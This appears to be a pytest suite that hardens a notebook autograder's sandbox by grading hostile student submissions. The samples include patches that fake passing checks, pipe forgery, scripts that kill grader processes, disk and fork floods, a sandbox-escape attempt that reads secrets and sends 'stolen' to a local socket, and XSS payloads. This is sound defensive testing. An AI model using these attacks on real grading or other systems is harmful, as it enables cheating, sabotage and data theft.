"""Hostile submissions, one or more per root cause of issue 10, graded as an instructor would.

Every attacker is followed by an honest student graded by the *same* worker (one worker, in
order), and the class is graded twice: with bubblewrap and with the Landlock fallback. Each
test asserts the attacker's score and that every honest student after an attacker gets full
marks, with a clean row.

Root causes (issue 10): 1 the verdict came from the student's process; 2 students shared a
process and its pipes; 3 hidden tests reached the student's process; 4 the sandbox was
optional and leaky; 5 one submission could stop the batch; 6 sheets and feedback could be
injected.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from helpers.course.cli import main
from helpers.grading.landlock import abi_version
from helpers.grading.sandbox import detect_sandbox
from tests.grading import factory as f
from tests.grading.factory import WRONG

CELL_TIMEOUT, TOTAL_TIMEOUT = 4, 40
MARKER = "NEXTWORD-LEFTOVER-MARKER"
SECRET = "hunter2-not-for-students"
MODES = [
    pytest.param("bubblewrap", marks=pytest.mark.skipif(detect_sandbox().kind != "bubblewrap", reason="bubblewrap is not usable here")),
    pytest.param("landlock", marks=pytest.mark.skipif(abi_version() < 6, reason="needs Landlock ABI 6 (signal scoping)")),
]


def _cells(nb, after: str, *sources: str):
    """Insert code cells after the cell with ``after`` as grade_id ("END" appends)."""
    at = len(nb.cells) if after == "END" else f.cell_index(nb, after) + 1
    for i, source in enumerate(sources):
        nb.cells.insert(at + i, nbformat.v4.new_code_cell(textwrap.dedent(source)))
    return nb


def _attacks(out: Path, port: int) -> dict[str, tuple]:
    """name -> (notebook, expected score); each is followed by an honest student."""
    attacks = {}

    # -- 1. the verdict: nothing in the student's process takes part in it -----------------
    attacks["patch_checks_code"] = (_cells(f.submission(WRONG), "imports", """
        import helpers.grading as g, helpers.grading.checks as c
        noop = (lambda *a, **k: None).__code__
        for fn in (c.check_close, c.check_equal, c.check_shape, c.check_true, c._fail, c.as_array, c.plain):
            fn.__code__ = noop
        g.check_close = c.check_close = lambda *a, **k: None
        """), 0)
    attacks["patch_numpy_via_gc"] = (_cells(f.submission(WRONG), "imports", """
        import gc, numpy
        for obj in gc.get_objects():
            if callable(obj) and getattr(obj, "__name__", "") in ("isclose", "allclose", "array_equal", "all"):
                try:
                    obj.__code__ = (lambda *a, **k: True).__code__
                except (AttributeError, TypeError):
                    pass
        numpy.isclose = lambda a, b, **k: numpy.ones(numpy.shape(a), dtype=bool)
        numpy.ndarray.all = lambda self, *a, **k: True  # refused for a C type, and harmless anyway
        """), 0)
    attacks["patch_shell_and_kernel"] = (_cells(f.submission(WRONG), "imports", """
        import helpers.grading.kernel as k
        ip = get_ipython()
        ip.showtraceback = ip._showtraceback = lambda *a, **kw: None
        visible = {(2,): [0.5, 0.5], (3,): [0.09003057, 0.24472847, 0.66524096]}
        real = k.Kernel.dispatch
        def lying(self, request, buffers):  # answer every call with the visible tests' expected values
            value, changed = real(self, request, buffers)
            return (visible.get(getattr(value, "shape", None), value), changed)
        k.Kernel.dispatch = lying
        """), 0)
    attacks["thread_and_torch_mode"] = (_cells(f.submission(WRONG), "imports", """
        import threading, time, torch
        import helpers.grading.checks as c
        class Liar(torch.overrides.TorchFunctionMode):
            def __torch_function__(self, func, types, args=(), kwargs=None):
                return True if func in (torch.allclose, torch.equal) else func(*args, **(kwargs or {}))
        Liar().__enter__()
        def keep_patching():
            while True:
                c._fail = lambda message: None
                time.sleep(0.001)
        threading.Thread(target=keep_patching, daemon=True).start()
        """), 0)
    attacks["pipe_forgery"] = (_cells(f.submission(WRONG), "imports", """
        import json, os, struct
        def frame(header):
            text = json.dumps(header).encode()
            return struct.pack("<II", len(text), 0) + text
        for i in range(1, 300):  # claim success for every request to come
            os.write(1021, frame({"id": i, "ok": [0.5, 0.5], "outputs": []}))
        """), 0)
    attacks["garbage_frame"] = (_cells(f.submission(WRONG), "imports", """
        import os, struct
        os.write(1021, struct.pack("<II", 2**31, 7) + b"{not json")
        """), 0)
    attacks["equal_to_anything"] = (f.submission({"softmax": f.ALWAYS_EQUAL, "cross_entropy": "def cross_entropy(logits, targets):\n    return LyingFloat(0.1)",
                                                  "cross_entropy_grad": f.ALWAYS_EQUAL.replace("def softmax(z)", "def cross_entropy_grad(logits, targets)")}), 0)  # fmt: skip
    attacks["array_interface"] = (f.submission({"softmax": textwrap.dedent("""
        class Sneaky:  # asks NumPy to read memory at an address of its choosing
            def __init__(self, n): self.n = n
            __array_interface__ = property(lambda self: {"shape": (self.n,), "typestr": "<f8", "data": (4096, False), "version": 3})
            def __len__(self): return self.n
            def __getitem__(self, i): return 0.5
        def softmax(z):
            import numpy as np
            return Sneaky(np.shape(z)[-1])
        """)}), 2)  # cross_entropy is right; softmax (and the gradient built on it) gets nothing, nothing crashes

    # -- 2. students share nothing: leftovers, planted files, signals, budgets ------------
    attacks["leftover_processes"] = (_cells(f.submission(), "END", f"""
        import subprocess, sys
        hunter = ("import os, signal, time\\n"
                  "end = time.time() + 60\\n"
                  "while time.time() < end:\\n"
                  "    for pid in os.listdir('/proc'):\\n"
                  "        try:\\n"
                  "            if pid.isdigit() and int(pid) != os.getpid() and b'helpers.grading' in open(f'/proc/{{pid}}/cmdline', 'rb').read():\\n"
                  "                os.kill(int(pid), signal.SIGKILL)\\n"
                  "        except OSError:\\n"
                  "            pass\\n"
                  "    time.sleep(0.05)\\n")
        for _ in range(3):
            subprocess.Popen(["setsid", sys.executable, "-c", hunter, "{MARKER}"], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """), 7)
    attacks["plant_modules"] = (_cells(f.submission(WRONG), "imports", """
        import os, sys, tempfile
        evil = "raise SystemExit('planted by a previous student')\\n"
        for folder in {os.getcwd(), tempfile.gettempdir(), "/tmp", os.path.expanduser("~"), *sys.path}:
            for name in ("numpy.py", "IPython.py", "json.py", "sitecustomize.py"):
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        f.write(evil)
                except OSError:
                    pass
        """), 0)
    attacks["signal_the_grader"] = (_cells(f.submission(), "END", """
        import os, signal
        for pid in {os.getppid(), 1}:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as error:
                print("kill refused:", error)
        """), 7)
    attacks["fill_the_disk"] = (_cells(f.submission(), "END", """
        import os, tempfile
        written = 0
        try:
            for i in range(40):  # 2.5 GB if nothing stops it
                with open(os.path.join(tempfile.gettempdir(), f"fill{i}"), "wb") as f:
                    for _ in range(8):
                        f.write(b"x" * (8 << 20))
                        written += 8 << 20
        except OSError as error:
            print("stopped after", written >> 20, "MB:", error)
        """), 7)
    attacks["fork_many"] = (_cells(f.submission(), "END", """
        import subprocess, sys
        children = []
        try:
            for _ in range(100):
                children.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"]))
        except OSError as error:
            print("stopped after", len(children), "processes:", error)
        """), 7)

    # -- 3. hidden tests never reach the student's process ---------------------------------
    attacks["snoop_hidden_tests"] = (_cells(f.submission({"softmax": textwrap.dedent("""
        import gc, inspect, linecache, sys
        SEEN = []
        sys.addaudithook(lambda event, args: SEEN.append(f"{event} {args!r}"[:300]))
        def softmax(z):
            import numpy as np
            for frame in inspect.stack():
                SEEN.append(f"{frame.filename}:{frame.code_context}")
            SEEN.extend(o for o in gc.get_objects() if isinstance(o, str) and ("check_close" in o or "HIDDEN" in o))
            SEEN.extend(str(v) for v in linecache.cache.values())
            if np.shape(z) == (3, 7):  # an input only a hidden test uses
                raise ValueError(f"LEAK-INPUT shape {np.shape(z)}")
            z = np.asarray(z, dtype=float)
            e = np.exp(z - z.max(axis=-1, keepdims=True))
            return e / e.sum(axis=-1, keepdims=True)
        """)}), "END", """
        print("SNOOP-REPORT", len(SEEN))
        print("\\n".join(SEEN)[-200000:])
        """), 5)

    # -- 4. the sandbox holds, also as root ------------------------------------------------
    attacks["escape"] = (_cells(f.submission(WRONG), "END", f"""
        import ctypes, os, socket
        report = {{}}
        status = open("/proc/self/status").read()
        report["caps"] = [line.split()[1] for line in status.splitlines() if line.startswith("CapEff")][0]
        libc = ctypes.CDLL(None, use_errno=True)
        report["unshare"] = libc.unshare(0x10000000 | 0x00020000)  # a new user and mount namespace
        report["mount"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
        for name, path in [("solutions", {str(f.SOURCE)!r}), ("home", os.path.expanduser("/root/.bashrc")),
                           ("results", {str(out / "results")!r})]:
            try:
                report[name] = len(open(path, "rb").read()) if os.path.isfile(path) else os.listdir(path)
            except OSError as error:
                report[name] = type(error).__name__
        for name, path in [("write_results", {str(out / "results" / "99_b_honest.json")!r}), ("write_grades", {str(out / "grades.csv")!r})]:
            try:
                open(path, "w").write('{{"score": 7}}')
                report[name] = "written"
            except OSError as error:
                report[name] = type(error).__name__
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
            report["network"] = "connected"
        except OSError as error:
            report["network"] = type(error).__name__
        report["secret"] = {SECRET!r} in repr(dict(os.environ))
        print("ESCAPE-REPORT", report)
        """), 0)

    # -- 5. the batch always finishes ------------------------------------------------------
    attacks["surrogates_and_huge_output"] = (_cells(f.submission(), "END", """
        print("a lone surrogate: \\ud800 and \\udcff")
        raise ValueError("x" * 20_000_000)
        """, *["print('y' * 100_000)"] * 60), 7)
    attacks["stop_reading"] = (_cells(f.submission(), "END", """
        import os, signal, threading, time
        threading.Timer(0.3, os.kill, (os.getpid(), signal.SIGSTOP)).start()
        time.sleep(2)
        """, "print('never')"), 7)
    markdown = "[" * 300_000 + "\n<script>alert(1)</script><img src=x onerror=alert(2)> [go](javascript:alert(3))\n" + "*a " * 100_000
    nb = f.submission()
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(markdown))
    nb.cells.insert(2, nbformat.v4.new_markdown_cell("<script>alert(4)</script> <iframe src='https://example.com'></iframe> **bold**"))
    attacks["injection"] = (_cells(nb, "END", "print('<script>alert(5)</script>')"), 7)
    return attacks


@pytest.fixture(scope="module", params=MODES)
def graded(request, tmp_path_factory):
    mode = request.param
    folder, out = tmp_path_factory.mktemp(f"class-{mode}"), tmp_path_factory.mktemp(f"grades-{mode}")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    attacks = _attacks(out, server.getsockname()[1])
    expected = {}
    for i, (name, (nb, score)) in enumerate(attacks.items()):
        f.write(nb, folder, f"{i:02d}_a_{name}")
        f.write(f.submission(), folder, f"{i:02d}_b_honest")
        expected[f"{i:02d}_a_{name}"] = score
    f.write(f.submission(), folder, "99_b_honest")
    os.environ["NEXTWORD_TEST_PRIVATE_VALUE"] = SECRET
    args = ["grade", "week00", str(folder), "--out", str(out), "--workers", "1", "--sandbox", mode, "--timeout", str(CELL_TIMEOUT),
            "--total-timeout", str(TOTAL_TIMEOUT), "--memory", "512", "--quiet"]  # fmt: skip
    start = time.monotonic()
    try:
        assert main(args) == 0
    finally:
        stop.set()
        os.environ.pop("NEXTWORD_TEST_PRIVATE_VALUE", None)
    rows = {r["student_id"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    return {"mode": mode, "out": out, "rows": rows, "expected": expected, "received": received, "seconds": time.monotonic() - start}


def _graded_text(graded, student) -> str:
    nb = json.loads((graded["out"] / "graded" / f"{student}.ipynb").read_text(encoding="utf-8"))
    def text(value) -> str:
        return "".join(value) if isinstance(value, list) else str(value)

    return "".join(text(o.get("text", "")) + "\n".join(o.get("traceback", [])) for c in nb["cells"] for o in c.get("outputs", []))


def _feedback(graded, student) -> str:
    return (graded["out"] / "feedback" / f"{student}.html").read_text(encoding="utf-8")


def test_every_attacker_gets_its_own_score_and_the_next_student_full_marks(graded):
    rows, wrong = graded["rows"], []
    for student, score in graded["expected"].items():
        if float(rows[student]["score"]) != score:
            wrong.append((student, rows[student]["score"], score, rows[student]["status"], rows[student]["message"][:300]))
        honest = rows[student.replace("_a_", "_b_").rsplit("_b_", 1)[0] + "_b_honest"]
        if float(honest["score"]) != 7 or honest["status"] != "graded" or honest["message"]:
            wrong.append((honest["student_id"], honest["score"], 7, honest["status"], honest["message"][:300]))
    assert not wrong, wrong
    assert float(rows["99_b_honest"]["score"]) == 7


def test_nothing_a_submission_started_survives_it(graded):
    deadline = time.monotonic() + 10
    while True:
        alive = []
        for pid in os.listdir("/proc"):
            try:
                if pid.isdigit() and MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    alive.append(pid)
            except OSError:
                continue
        if not alive or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert not alive, f"processes left behind by a submission: {alive}"
    assert not list(Path(os.environ.get("TMPDIR", "/tmp")).glob("nextword-worker-*/submission-*")), "scratch folders left behind"


def test_the_escape_attempts_fail(graded):
    text = _graded_text(graded, next(s for s in graded["expected"] if s.endswith("_escape")))
    report = eval(text.split("ESCAPE-REPORT", 1)[1].splitlines()[0])  # noqa: S307 - our own test's output
    assert report["mount"] == -1, report
    assert report["caps"] == "0000000000000000", report  # also when the grader runs as root
    assert not isinstance(report["solutions"], int) and not isinstance(report["home"], int), report
    assert not isinstance(report["results"], list), report  # the output folder is not there
    assert report["write_results"] != "written" and report["write_grades"] != "written", report
    assert report["network"] != "connected" and not graded["received"], report
    assert report["secret"] is False
    if graded["mode"] == "bubblewrap":
        assert report["unshare"] == -1, report  # no nested user namespaces


def test_hidden_tests_leave_no_trace_in_the_students_process_or_feedback(graded):
    student = next(s for s in graded["expected"] if s.endswith("_snoop_hidden_tests"))
    hidden = f.SOURCE.read_text().split("### BEGIN HIDDEN TESTS")[1:]
    lines = {line.strip() for block in hidden for line in block.split("### END HIDDEN TESTS")[0].split("\\n") if len(line.strip()) > 25}
    text, page = _graded_text(graded, student), _feedback(graded, student)
    assert "SNOOP-REPORT" in page  # the report itself reached the feedback ...
    assert not [line for line in lines if line in text or line in page]  # ... with none of the hidden tests in it
    assert "default_rng(7)" not in text and "BEGIN HIDDEN" not in text
    parts = {p["part"]: p for p in csv.DictReader(open(graded["out"] / "parts.csv")) if p["student_id"] == student}
    assert parts["test_softmax_values"]["message"] == "hidden test: your code raised ValueError"
    assert "LEAK-INPUT shape (3" not in page  # the student's exception message in a hidden test stays out


def test_outputs_are_capped_and_odd_characters_written(graded):
    student = next(s for s in graded["expected"] if s.endswith("_surrogates_and_huge_output"))
    page = _feedback(graded, student)
    assert len(page) < 3_000_000 and "output truncated" in page and "\\ud800" in page
    assert (graded["out"] / "graded" / f"{student}.ipynb").stat().st_size < 4_000_000


def test_a_kernel_that_stops_reading_is_stopped(graded):
    row = graded["rows"][next(s for s in graded["expected"] if s.endswith("_stop_reading"))]
    assert row["status"] == "timeout" and "could not be interrupted" in row["message"]


def test_feedback_runs_no_student_html(graded):
    page = _feedback(graded, next(s for s in graded["expected"] if s.endswith("_injection")))
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert "<script" not in page.lower() and "<iframe" not in page.lower()
    assert "<img src=x" not in page and 'href="javascript:' not in page.lower()
    assert "&lt;script&gt;alert(5)" in page and "<h2>Part 1: softmax" in page  # escaped, and the instructions still render


def test_the_attack_class_takes_seconds_not_minutes(graded):
    # 20 attackers and 21 honest students, with a few deliberate time-outs
    assert graded["seconds"] < 600, graded["seconds"]
